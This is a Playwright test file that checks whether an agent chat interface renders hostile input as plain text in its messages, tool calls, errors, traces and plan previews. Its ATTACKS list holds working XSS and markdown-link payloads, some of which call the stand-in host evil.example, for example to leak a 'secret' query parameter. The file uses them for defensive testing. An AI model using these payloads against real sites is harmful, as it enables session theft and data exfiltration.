// Hazard: one of the many places that show text from outside makes markup, a request or other text of it (W2, W3).
import { describe, expect } from 'vitest';
import type { Page } from 'playwright-core';

import {
  expectClean,
  missingBrowser,
  openPage,
  pageLink,
  sendMessage,
  useBrowser,
} from '../support/browser.ts';
import { at } from '../support/sandbox.ts';
import { writeDocument } from '../support/scripts.ts';
import { serve } from '../support/serve.ts';
import { waitFor } from '../support/wait.ts';
import { beginWriting, fully, textOf } from './support/page-writes.ts';

/** Each would set `hacked`, or ask evil.example, where it became more than text. */
const ATTACKS = [
  '<img src=x onerror="window.hacked=1">',
  '"><script>window.hacked=1</script>',
  '</script><svg/onload=window.hacked=1>',
  "'-window.hacked=1-'",
  '<details open ontoggle=window.hacked=1>',
  '<style>@import "https://evil.example/a.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><button autofocus onfocus=window.hacked=1>',
  '<a href="javascript:window.hacked=1">x</a>',
  '[x](javascript:window.hacked=1)',
  '[x](JAVASCRIPT&colon;window.hacked=1)',
  '[x](data:text/html,<script>window.hacked=1</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '![x](https://evil.example/?q=secret)',
  '![x][1]',
  '[1]: https://evil.example/?q=secret',
  '<https://evil.example/"onmouseover="window.hacked=1>',
  '&lt;script&gt;&#x3c;img src=x onerror=window.hacked=1&#x3e;',
  '${window.hacked=1}{{constructor.constructor("window.hacked=1")()}}',
  '__proto__ constructor toString hasOwnProperty',
  'NULL undefined NaN 1e309 -0 0x7fffffff',
  'Ω≈ç√∫˜µ≤≥÷ 田中さん 사회과학원 👩🏽‍🚀 Z͑ͫ̓ͪ̂ͫ̽͏A̴̵̜̰͔ͫ͗͢',
  'ﷺ بِسْمِ اللهِ',
];
const TEXT = ATTACKS.join('\n');

async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    hacked: 'hacked' in window,
    elements: document.querySelectorAll(
      '#root :is(img, iframe, svg, script, style, base, meta, object, embed)',
    ).length,
    links: Array.from(document.querySelectorAll('#root a'), (link) =>
      link.getAttribute('href'),
    ).filter((href) => !/^(?:\/[^/]|\/$|#|https:\/\/evil\.example)/u.test(href ?? '')),
    handlers: Array.from(document.querySelectorAll('#root *')).filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
  }));
  expect(found).toEqual({ hacked: false, elements: 0, links: [], handlers: 0 });
}

describe.skipIf(missingBrowser !== null)('hostile text everywhere', () => {
  const browser = useBrowser();

  fully('in a file that is written is exactly its text', async ({ machine }) => {
    const content = `${TEXT}\n${TEXT}\n`;
    const provider = await machine.provider(
      writeDocument({ target: 'docs/long.md', content }, { shape: { chunk: { min: 1, max: 9 } } }),
    );
    const server = await serve(machine, [...at(provider), '--approve', 'ask']);
    const watched = await openPage(browser(), pageLink(server));
    const { page } = watched;
    await beginWriting(page);
    const yes = page.getByRole('button', { name: /^Yes: / });
    await yes.waitFor();
    await waitFor('the text', async () => (await textOf(page)).length === content.length);
    expect(await textOf(page)).toBe(content);
    await expectHarmless(page);
    const added = await page.locator('.approval').getByRole('cell').allTextContents();
    expect(added.slice(0, 20)).toEqual(ATTACKS.slice(0, 20));
    await yes.click();
    await page.getByRole('region', { name: 'Receipt' }).waitFor();
    expect(String(await machine.read('docs/long.md'))).toBe(content);
    expectClean(watched, server.url);
  });

  fully(
    'in messages, calls, results, errors, titles, traces and plans stays text',
    async ({ machine }) => {
      await machine.write('evil.txt', TEXT);
      const provider = await machine.provider({
        behaviours: [
          {
            name: 'calls',
            when: { userMessages: 1, toolResults: 0 },
            reply: {
              text: TEXT,
              toolCalls: [
                { id: 'a', name: 'read_file', arguments: { path: 'evil.txt' } },
                { id: 'b', name: 'read_file', arguments: { path: ATTACKS[0], [TEXT]: TEXT } },
                { id: 'c', name: 'no_such_tool', arguments: TEXT },
              ],
            },
          },
          { name: 'says', when: { userMessages: 1 }, reply: { text: TEXT } },
          {
            name: 'fails',
            reply: { text: '' },
            faults: [{ kind: 'status', status: 400, message: ATTACKS.slice(0, 3).join(' ') }],
          },
        ],
      });
      const server = await serve(machine, at(provider));
      const watched = await openPage(browser(), pageLink(server));
      const { page } = watched;
      await sendMessage(page, TEXT);
      const turn = page.getByRole('article', { name: 'Turn' });
      await page.locator('article.turn[aria-busy=false]').waitFor();
      expect(await turn.locator('.user').textContent()).toBe(TEXT);
      const calls = turn.locator('details.call');
      await expect.poll(() => calls.count()).toBe(3);
      for (const call of await calls.all()) await call.locator('summary').click();
      await expectHarmless(page);

      await page.getByLabel('Message').fill('Again');
      await page.getByRole('button', { name: 'Send' }).click();
      const error = page.getByRole('region', { name: 'Error' });
      await error.waitFor();
      expect(await error.textContent()).toContain(ATTACKS[0]);
      await expectHarmless(page);
      await page.reload();
      await page.getByRole('heading', { level: 1 }).waitFor();
      for (const each of await page.locator('details.call summary').all()) await each.click();
      await expectHarmless(page);

      await page.getByRole('navigation').getByRole('link', { name: 'Conversations' }).click();
      await page.locator('main a[data-row]').first().waitFor();
      expect(await page.locator('main a[data-row]').first().textContent()).toContain('<img');
      await expectHarmless(page);
      await page.getByRole('navigation').getByRole('link', { name: 'Traces' }).click();
      await page.locator('main a[data-row]').last().click();
      await page.getByRole('treegrid').waitFor();
      await expectHarmless(page);
      await page.getByLabel('Find an event').fill('tool_call');
      await page.keyboard.press('Enter');
      await page.getByRole('treegrid').focus();
      await page.keyboard.press('Enter');
      await page.getByRole('region', { name: 'tool_call' }).getByText('argumentsLength').waitFor();
      await expectHarmless(page);

      await page.getByRole('navigation').getByRole('link', { name: 'Plan' }).click();
      const preview = page.getByRole('button', { name: 'Show what it would change' });
      for (const plan of [
        TEXT,
        JSON.stringify({ intent: TEXT, operations: [{ type: TEXT, target_file: ATTACKS[0] }] }),
        JSON.stringify({
          intent: ATTACKS[0],
          operations: [{ type: 'create', target_file: 'a <b>.md', content: TEXT }],
        }),
      ]) {
        await page.getByLabel('Its text').fill(plan);
        await preview.click();
        await page
          .getByRole('group', { name: 'Error' })
          .or(page.getByRole('region', { name: 'Preview' }))
          .waitFor();
        await expectHarmless(page);
      }
      const cells = await page.getByRole('cell').allTextContents();
      expect(cells.slice(0, 20)).toEqual(ATTACKS.slice(0, 20));
      expectClean(watched, server.url);
    },
  );
});
